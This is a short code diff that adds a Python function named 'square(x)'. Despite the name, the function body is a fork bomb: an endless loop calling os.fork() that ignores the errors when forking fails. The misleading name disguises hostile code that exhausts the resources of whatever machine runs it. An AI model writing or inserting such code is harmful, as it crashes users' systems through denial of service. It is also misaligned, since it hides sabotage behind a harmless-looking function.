@@ -1,0 +1,9 @@
+import os
+
+
+def square(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
